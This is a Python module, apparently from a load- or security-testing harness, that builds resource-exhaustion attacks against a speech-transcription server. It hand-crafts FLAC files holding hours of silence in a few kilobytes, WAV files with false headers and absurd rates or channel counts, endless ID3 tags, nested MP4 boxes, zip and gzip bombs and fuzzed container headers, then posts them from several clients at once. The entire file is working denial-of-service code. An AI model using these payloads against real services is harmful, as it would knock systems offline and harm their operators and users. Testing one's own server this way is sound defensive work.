"""Attacks by files: hours of silence in a few kB, headers that lie, containers that never end."""

from __future__ import annotations

import gzip
import random
import shutil
import struct
import subprocess
import tempfile
import zipfile
from collections.abc import Callable, Iterable
from functools import cache, partial
from io import BytesIO
from pathlib import Path

from attack_client import MEGABYTE, WHISPER, Target, exchange, post, together
from attack_good import tone, wav

BLOCK = 65_535  # samples of the longest frame of FLAC
LONG = 7_190  # seconds, a little less than the server takes


# -- FLAC by hand: frames of constants, 36 bytes for a third of a second in eight channels ----------------------------


def _crc_table(polynomial: int, width: int) -> list[int]:
    top, mask = 1 << (width - 1), (1 << width) - 1
    table = []
    for value in range(256):
        crc = value << (width - 8)
        for _ in range(8):
            crc = ((crc << 1) ^ polynomial if crc & top else crc << 1) & mask
        table.append(crc)
    return table


CRC8, CRC16 = _crc_table(0x07, 8), _crc_table(0x8005, 16)


def _crc8(data: bytes) -> int:
    crc = 0
    for value in data:
        crc = CRC8[crc ^ value]
    return crc


def _crc16(data: bytes) -> int:
    crc = 0
    for value in data:
        crc = (crc << 8 & 0xFFFF) ^ CRC16[crc >> 8 ^ value]
    return crc


def _number(value: int) -> bytes:
    """As UTF-8 would write a letter, but up to 36 bits."""
    if value < 0x80:
        return bytes([value])
    rest = []
    while value >= 1 << (6 - len(rest)):
        rest.append(0x80 | value & 0x3F)
        value >>= 6
    first = (0xFF00 >> (len(rest) + 1)) & 0xFF | value
    return bytes([first, *reversed(rest)])


def flac(seconds: float, *, rate: int = 192_000, channels: int = 8, claimed: float | None = None) -> bytes:
    """Silence. The header may claim another duration, or 0 for an unknown one."""
    frames = max(1, round(seconds * rate / BLOCK))
    samples = frames * BLOCK if claimed is None else round(claimed * rate)
    packed = rate << 44 | (channels - 1) << 41 | (16 - 1) << 36 | samples & (1 << 36) - 1
    info = struct.pack(">HH", BLOCK, BLOCK) + b"\0" * 6 + struct.pack(">Q", packed) + b"\0" * 16
    parts = [b"fLaC\x80\0\0\x22", info]
    constants = b"\0\0\0" * channels  # for each: the kind of its subframe, and a sample of 16 bits
    for number in range(frames):
        head = b"\xff\xf8" + bytes([0x70, (channels - 1) << 4]) + _number(number) + struct.pack(">H", BLOCK - 1)
        frame = head + bytes([_crc8(head)]) + constants
        parts.append(frame + struct.pack(">H", _crc16(frame)))
    return b"".join(parts)


def flac_with_padding(size: int) -> bytes:
    """A second of silence behind blocks of metadata, each as large as it may be."""
    whole = flac(1.0, rate=16_000, channels=1)
    most = (1 << 24) - 1
    blocks = [min(most, size - at) for at in range(0, size, most)]
    padding = b"".join(b"\x01" + struct.pack(">I", block)[1:] + b"\0" * block for block in blocks)
    return b"fLaC\0" + whole[5:42] + padding + b"\x81\0\0\0" + whole[42:]


# -- others -----------------------------------------------------------------------------------------------------------


def wav_chunks(size: int) -> bytes:
    """A WAV with as many empty chunks before its sound as the size allows."""
    whole = tone(0.5)
    return whole[:36] + b"junk\0\0\0\0" * (size // 8) + whole[36:]


def id3(size: int) -> bytes:
    """An MP3's tag without end, and nothing behind it."""
    size = min(size, (1 << 28) - 1)
    packed = bytes(size >> shift & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\4\0\0" + packed + b"\0" * size


def atoms(size: int) -> bytes:
    """An M4A that is boxes in boxes."""
    return b"\0\0\0\x18ftypM4A \0\0\0\0M4A mp42" + b"\0\0\0\x08free" * (size // 8)


def archive(size: int) -> bytes:
    """A ZIP of zeros."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("a.wav", b"\0" * size)
    return file.getvalue()


MAGIC = (
    b"RIFF\xff\xff\xff\xffWAVE",
    b"fLaC",
    b"OggS",
    b"ID3",
    b"\xff\xfb",
    b"\x1aE\xdf\xa3",
    b"FORM",
    b"caff",
    b"MThd",
)


def broken(count: int) -> Iterable[bytes]:
    """Noise behind the marks of containers, always the same."""
    chance = random.Random(5)
    for number in range(count):
        yield MAGIC[number % len(MAGIC)] + chance.randbytes(chance.choice([0, 10, 1_000, 100_000]))


@cache
def encoded(codec: str, ending: str, seconds: int) -> bytes | None:
    """Long silence by FFmpeg, as quickly as it can; None without it."""
    if shutil.which("ffmpeg") is None:
        return None
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"silence.{ending}"
        source = ["-f", "lavfi", "-i", "anullsrc=r=16000:cl=mono", "-t", str(seconds)]
        quick = ["-compression_level", "0", "-frame_duration", "60"] if codec == "libopus" else []
        command = ["ffmpeg", "-v", "error", *source, "-c:a", codec, "-b:a", "8k", *quick, str(path)]
        done = subprocess.run(command, check=False, capture_output=True)
        return path.read_bytes() if done.returncode == 0 else None


# -- attacks ----------------------------------------------------------------------------------------------------------


def send(target: Target, make: Callable[[Target], bytes | None], at_once: int = 3) -> None:
    """The same file from several clients at once."""
    data = make(target)
    if data is None:
        target.notes.append("FFmpeg cannot make the file here")
        return
    target.notes.append(f"{at_once} x {len(data) / 1_000:,.0f} kB")
    request = post(WHISPER, data)
    target.note_statuses(reply.status for reply in together(at_once, lambda _: exchange(target, *request)))


def flac_of(hours: float, at_once: int, target: Target, **options: int | float) -> None:
    seconds = max(60.0, hours * 3_600 * target.scale)
    send(target, lambda _: flac(seconds, **options), at_once)  # type: ignore[arg-type]


def send_broken(target: Target) -> None:
    """Noise in all containers, from 8 clients."""
    files = list(broken(target.size(200, 9)))

    def ask(client: int) -> list[int]:
        return [exchange(target, *post(WHISPER, data)).status for data in files[client::8]]

    target.note_statuses(status for statuses in together(8, ask) for status in statuses)


def short_clips(target: Target) -> None:
    """Many good clips at once, more than wait in the queue: some are refused, nobody waits long."""
    request = post(WHISPER, tone(0.5))
    target.note_statuses(reply.status for reply in together(target.size(300, 10), lambda _: exchange(target, *request)))


def long_seconds(target: Target) -> int:
    return target.size(LONG, 60)


def attacks() -> dict[str, Callable[[Target], None]]:
    """Every attack of this module, by name."""

    def slow_wav(target: Target) -> bytes:
        return wav(b"\x80" * long_seconds(target), rate=1, bits=8)

    def many_channels(target: Target) -> bytes:
        return wav(b"\0" * target.size(50 * MEGABYTE), channels=65_535, bits=8)

    def long_wav(target: Target) -> bytes:
        return wav(b"\x80" * long_seconds(target) * 8_000, rate=8_000, bits=8)

    def lying_wav(target: Target) -> bytes:
        return wav(b"\0" * 32_000, claimed=2**32 - 1)

    def fast_wav(target: Target) -> bytes:
        return wav(b"\0" * target.size(50 * MEGABYTE), rate=2**32 - 1)

    return {
        "flac-3": partial(flac_of, 1.4, 3),
        "flac-10": partial(flac_of, 1.4, 10),
        "flac-unknown-duration": partial(flac_of, 3.0, 3, claimed=0),
        "flac-claims-a-second": partial(flac_of, 1.8, 3, claimed=1),
        "flac-too-long": partial(flac_of, 20.0, 3),
        "flac-655kHz": partial(flac_of, 0.5, 3, rate=655_350, channels=6),
        "flac-mono-long": partial(flac_of, 1.9, 4, rate=16_000, channels=1),
        "flac-1Hz": partial(flac_of, 1.9, 3, rate=1, channels=8),
        "flac-padding": partial(send, make=lambda target: flac_with_padding(target.size(90 * MEGABYTE))),
        "wav-1Hz": partial(send, make=slow_wav),
        "wav-65535-channels": partial(send, make=many_channels),
        "wav-4GHz": partial(send, make=fast_wav),
        "wav-lies": partial(send, make=lying_wav),
        "wav-long": partial(send, make=long_wav),
        "wav-chunks": partial(send, make=lambda target: wav_chunks(target.size(90 * MEGABYTE))),
        "opus-long": partial(send, make=lambda target: encoded("libopus", "ogg", long_seconds(target))),
        "mp3-long": partial(send, make=lambda target: encoded("libmp3lame", "mp3", long_seconds(target))),
        "aac-long": partial(send, make=lambda target: encoded("aac", "m4a", long_seconds(target))),
        "opus-long-10": partial(send, make=lambda target: encoded("libopus", "ogg", long_seconds(target)), at_once=10),
        "ogg-chained": partial(send, make=lambda target: (encoded("libopus", "ogg", 1) or b"") * target.size(9_000)),
        "id3-tag": partial(send, make=lambda target: id3(target.size(90 * MEGABYTE))),
        "mp4-boxes": partial(send, make=lambda target: atoms(target.size(90 * MEGABYTE))),
        "zip": partial(send, make=lambda target: archive(target.size(500 * MEGABYTE))),
        "gzip": partial(send, make=lambda target: gzip.compress(b"\0" * target.size(500 * MEGABYTE))),
        "broken-files": send_broken,
        "short-clips-300": short_clips,
    }
